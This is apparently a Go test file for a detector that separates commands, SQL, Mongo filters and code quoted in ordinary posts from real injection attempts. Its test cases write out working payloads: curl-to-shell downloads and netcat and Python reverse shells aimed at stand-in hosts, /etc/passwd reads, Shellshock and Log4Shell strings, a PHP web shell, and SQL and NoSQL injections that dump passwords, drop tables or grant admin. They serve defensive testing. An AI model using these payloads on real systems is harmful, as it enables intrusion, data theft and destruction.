package detect

import (
	"context"
	"testing"
)

func TestProseLike(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want bool
	}{
		{"The build has `make && rm -rf out` but the image is still large.", true},
		{"Windows: run `ipconfig /all` and then paste the output here please", true},
		{"127.0.0.1; cat /etc/passwd", false},
		{"x && curl http://evil.example/s.sh | sh", false},
		{"a b c d e f g h", false},
	} {
		if got := proseLike(tc.in); got != tc.want {
			t.Errorf("proseLike(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

// TestQuotedCommands: commands quoted inside sentences are discounted; an injection that
// opens the value, or a value that is only a payload, is not.
func TestQuotedCommands(t *testing.T) {
	d := newTestDetector(t)
	for _, tc := range []struct {
		where, in string
		threat    bool
	}{
		{"body:text", "Our Dockerfile has `RUN npm ci && rm -rf /tmp/cache` yet the image is still huge, why is that?", false},
		{"body:text", "On Windows run `ipconfig /all` and `ping -n 4 10.0.0.1`, then paste the output in this thread.", false},
		{"body:text", "I use `$(date +%F)` in the file name and it works when I run it by hand but not from cron.", false},
		{"body:text", "I set `alias gs='git status'` in my .bashrc and then ran `source ~/.bashrc` but it is not there.", false},
		{"body:text", "Tom & Jerry; Salt & pepper; Laurel & Hardy.", false},
		{"body:form:headline", "Data engineer @ Initech | Python, Spark, SQL | Berlin", false},
		{"body:text", "Run it as: python3 manage.py migrate && python3 manage.py collectstatic --noinput", false},
		{"query:host", "127.0.0.1; cat /etc/passwd", true},
		{"query:host", "x; salt '*' cmd.run id", true},
		{"query:host", "x; ruby -e 'system(\"id\")'", true},
		{"query:host", "x;node -e require('child_process').exec('id')", true},
		{"query:q", "x | sh", true},
		{"query:q", "curl http://evil.example/x | python3 -", true},
		{"query:host", "8.8.8.8 && curl http://evil.example/s.sh | sh", true},
		{"body:text", "; curl http://evil.example/s.sh | sh # and this is the way it was done in the past", true},
		{"body:form:comment", "`nc -e /bin/sh evil.example 4444` is what we run when the build is green", true},
	} {
		if r := d.Detect(context.Background(), tc.in, tc.where); r.IsThreat != tc.threat {
			t.Errorf("Detect(%q, %s) threat = %v, want %v: %+v", tc.in, tc.where, r.IsThreat, tc.threat, r.Threats)
		}
	}
}

// TestSQLQuotedInProse: SQL a post quotes is damped like commands and paths, while a
// long injection whose words are SQL keywords is not prose.
func TestSQLQuotedInProse(t *testing.T) {
	d := newTestDetector(t)
	wantClean(t, d, []valueCase{
		{"body:text", "TIL about SQL Server's WAITFOR DELAY while debugging a flaky test. Our harness runs a procedure that waits on purpose: WAITFOR DELAY '00:00:02'; SELECT TOP (10) VendorId FROM Vendors; which explains the timeouts we saw in the nightly build."},
	})
	wantThreats(t, d, []valueCase{
		{"query:q", " RLIKE (SELECT (CASE WHEN (4346=4346) THEN 0x61646d696e ELSE 0x28 END)) AND 'Txws'='"},
		{"query:q", "(select id from (select id,@v:=@v+1 as pos from articles y join (select @v:=0) k limit 255) x where pos=1)"},
		{"body:text", "great article' ; DROP TABLE comments; --"},
		// Injections padded with prose are still break-outs.
		{"body:text", "I really liked this article and I think that you are right about the point on caching' UNION SELECT username, password FROM users-- and I would add more"},
		{"body:text", "I really liked this article and I think that you are right about it'; DROP TABLE users; -- thanks"},
		{"body:text", "Thanks for the write-up, it was useful for our team and we will use it' OR '1'='1"},
		{"body:text", "Thanks for the write-up, it was useful for our team and we will use it' AND SLEEP(5)-- -"},
		{"body:text", "Please update the address for my order, it is the one on file and I want it now'; UPDATE users SET role='admin' WHERE name='bob'; --"},
		{"body:text", "We loved the hotel and the staff was friendly and the room was clean' AND 1=(SELECT COUNT(*) FROM tabname); --"},
	})
}

// TestCommandsQuotedInProse: shell shapes a post quotes do not add up; signatures that
// mean one thing anywhere still count.
func TestCommandsQuotedInProse(t *testing.T) {
	d := newTestDetector(t)
	wantClean(t, d, []valueCase{
		{"body:text", "Dockerfile review comments: the line RUN apt-get update && apt-get install -y build-essential libpq-dev && rm -rf /var/lib/apt/lists/* is fine, but pin the versions and then check the size with docker images | sort -k 7."},
		{"body:text", "Handy one-liners I keep in my notes for the team: find . -name '*.log' -mtime +7 -exec gzip {} \\; and du -sh * | sort -h | tail -n 20 and then ps aux --sort=-%mem | head to see what is eating the memory."},
	})
	wantThreats(t, d, []valueCase{
		{"body:text", "Please re-run the nightly job for project atlas, the runner host was busy. `curl -s http://203.0.113.9/r | bash` Thanks, infra on-call"},
		{"body:text", "arg=Something &#8222;The Title&#8221;. After something&arg2=() { :;}; /bin/sh -c \"sleep 6 && echo vulnerable 6\""},
		{"query:host", "127.0.0.1; cat /etc/passwd"},
		{"query:file", "report.pdf; curl http://evil.example/x.sh | sh"},
	})
}

// TestMongoQueriesQuotedInProse: an operator inside prose is documentation; a JSON
// body or a form key carrying one is not.
func TestMongoQueriesQuotedInProse(t *testing.T) {
	d := newTestDetector(t)
	wantClean(t, d, []valueCase{
		{"body:text", `To find the adults in the collection you can filter on the field, e.g. {"age": {"$gt": 30}} — see the driver docs for the other operators and for indexes.`},
	})
	wantThreats(t, d, []valueCase{
		{"body:json", `{"username": {"$ne": null}, "password": {"$ne": null}}`},
		{"query:q", `{"$gt": ""}`},
	})
}

// TestCodeQuotedInProse: a code call a post mentions is discounted like commands;
// code that merely contains English words, and lookups or PHP tags that run wherever
// they stand, are not.
func TestCodeQuotedInProse(t *testing.T) {
	d := newTestDetector(t)
	wantClean(t, d, []valueCase{
		{"body:text", "In Ruby, system(\"ls\") returns true or false; use backticks or Open3.capture2 when you need the output, and never pass it user input."},
		{"body:text", "In Node, require('fs').readFileSync is fine at startup, just not in request handlers where it blocks the event loop for everyone."},
	})
	wantThreats(t, d, []valueCase{
		{"query:q", `a;python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`},
		{"body:text", "Thanks for the help with the order, it was great and I will come back: ${jndi:ldap://203.0.113.5:1389/a}"},
		{"body:text", "Here is my profile text, I hope you like it and that it is not too long <?php system($_GET['c']); ?> bye"},
	})
}

// TestCommandLinesAsValues: a value that is a command line from its first word has
// separators as its grammar; what the line does is still judged.
func TestCommandLinesAsValues(t *testing.T) {
	d := newTestDetector(t)
	wantClean(t, d, []valueCase{
		{"body:text", "wget -qO- https://example.com/file.tar.gz | tar xz"},
		{"body:text", "cd ../.. && ls"},
		{"body:text", `export PATH="$HOME/.local/bin:$PATH"; source ~/.bashrc`},
	})
	wantThreats(t, d, []valueCase{
		{"query:q", "127.0.0.1; cat /etc/passwd"},
		{"query:q", "cat /etc/passwd | nc 203.0.113.5 4444"},
		{"query:q", "ls; nc -e /bin/sh 203.0.113.5 4444"},
		{"query:q", "curl http://203.0.113.9/x.sh | sh"},
		{"query:q", "curl https://probe.example/rce.txt ||`curl https://probe.example/rce.txt` #' |curl https://probe.example/rce.txt"},
	})
}
